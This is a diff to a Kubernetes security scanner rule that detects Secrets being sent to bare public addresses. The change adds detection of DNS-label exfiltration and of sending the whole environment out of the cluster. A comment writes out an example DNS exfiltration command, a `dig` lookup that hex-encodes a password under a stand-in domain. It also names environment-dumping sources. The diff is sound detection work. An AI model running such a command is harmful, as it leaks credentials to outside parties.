@@ -3,7 +3,10 @@
  * Reads: each container's execution model: flows whose content comes from a Secret (env
  * `secretKeyRef`, a Secret volume's files) and end in a send.
  * Looks for: such a send to a public IP address written as an address (any spelling: decimal,
- * hex, octal, IPv6-mapped, a wildcard-DNS name embedding one).
+ * hex, octal, IPv6-mapped, a wildcard-DNS name embedding one), or a send inside a host name: the
+ * value put into the leading labels of a name under a fixed domain (`dig $(echo $PW | xxd -p).x.example`),
+ * which the resolver hands to that domain's name server; or the whole environment (`env`, `printenv`,
+ * `/proc/self/environ`, where Kubernetes puts Secrets given as env) sent to any host outside the cluster.
  * Why: T1552.001/T1041 — the pod's database passwords and API keys collected and posted to a
  * collection server; droppers and exfiltration endpoints are bare addresses, not the named services
  * a Secret is for.
@@ -14,7 +17,8 @@
  */
 import { classifyHost, hostAddress, parseUrl } from '../../workload/address.js';
 import { containerExecutions, describeFlow, EvidenceByPath } from '../behaviour.js';
-import { credentialFlows } from '../credentials.js';
+import { credentialFlows, queriedDomain } from '../credentials.js';
+import { ENVIRONMENT } from '../../workload/credential.js';
 import type { Rule } from '../types.js';
 
 const KINDS = new Set(['secret'] as const);
@@ -29,12 +33,20 @@ function isBareAddress(destination: string | undefined): boolean {
   return hostClass === 'domain' && embedded !== undefined;
 }
 
+/** A send that leaves the cluster: to a public address or a public name. */
+function leavesCluster(destination: string | undefined): boolean {
+  const url = destination === undefined ? undefined : parseUrl(destination);
+  if (url === undefined) return false;
+  const hostClass = classifyHost(url.host);
+  return hostClass === 'public-address' || hostClass === 'domain';
+}
+
 export const secretExfil: Rule = {
   id: 'secret-exfil',
   profile: 'default',
   weight: 8,
   technique: 'T1552.001',
-  description: 'Values of Kubernetes Secrets are sent to a bare public IP address',
+  description: 'Values of Kubernetes Secrets are sent to a bare public IP address or inside a DNS name',
   reason: 'secret values sent to an address',
   guide: 'credential-theft',
   doc: {
@@ -45,8 +57,15 @@ export const secretExfil: Rule = {
   check(workload) {
     const evidence = new EvidenceByPath();
     for (const entry of containerExecutions(workload)) {
-      for (const { flow } of credentialFlows(entry, KINDS)) {
-        if (flow.sink === 'send' && isBareAddress(flow.destination))
+      for (const { flow, origin } of credentialFlows(entry, KINDS)) {
+        if (flow.sink !== 'send') continue;
+        // The whole environment has no audience: no API takes every variable of a pod.
+        const everything = origin.source === ENVIRONMENT || origin.source.endsWith('/environ');
+        if (
+          isBareAddress(flow.destination) ||
+          queriedDomain(flow.destination) !== undefined ||
+          (everything && leavesCluster(flow.destination))
+        )
           evidence.add(flow.path, () => describeFlow(flow));
       }
     }
